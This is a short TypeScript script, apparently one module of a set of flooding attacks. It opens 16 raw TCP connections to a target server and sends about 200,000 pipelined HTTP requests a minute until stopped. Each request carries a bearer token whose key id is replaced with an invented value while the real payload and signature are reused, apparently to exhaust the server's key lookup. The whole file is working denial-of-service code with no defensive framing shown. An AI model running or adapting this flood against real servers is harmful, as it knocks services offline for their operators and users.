/** Sends 200,000 tokens with made-up key ids a minute to a server, until the process is ended. */
import { connect, type Socket } from 'node:net';
import { encode, partsOf } from '../tokens.ts';
import type { Attack } from './floods.ts';

const { url, token, header } = JSON.parse(process.argv[2] ?? '') as Attack;
const { hostname, port, host } = new URL(url);
const [, payload, signature] = partsOf(token);
const RATE = 200_000 / 60_000;
const CONNECTIONS = 16;
/** Requests that may wait for their responses. */
const MAX_WAITING = 2_000;

let sent = 0;
let responses = 0;
const sockets = Array.from({ length: CONNECTIONS }, open);
const startedAt = performance.now();

// Requests are sent without waiting for responses, which costs this process little.
setInterval(() => {
  for (const socket of sockets) {
    let requests = '';
    for (let count = 0; count < 10 && isDue(); count += 1) requests += nextRequest();
    if (requests !== '') socket.write(requests);
  }
}, 5);

function isDue(): boolean {
  return sent < (performance.now() - startedAt) * RATE && sent - responses < MAX_WAITING;
}

function nextRequest(): string {
  sent += 1;
  const made = encode({ ...header, kid: `made-up-${sent}` });
  return `GET / HTTP/1.1\r\nhost: ${host}\r\nx-invented: 1\r\nauthorization: Bearer ${made}.${payload}.${signature}\r\n\r\n`;
}

function open(): Socket {
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  socket.on('data', (bytes) => (responses += bytes.toString('latin1').split('HTTP/1.1 ').length - 1));
  return socket;
}
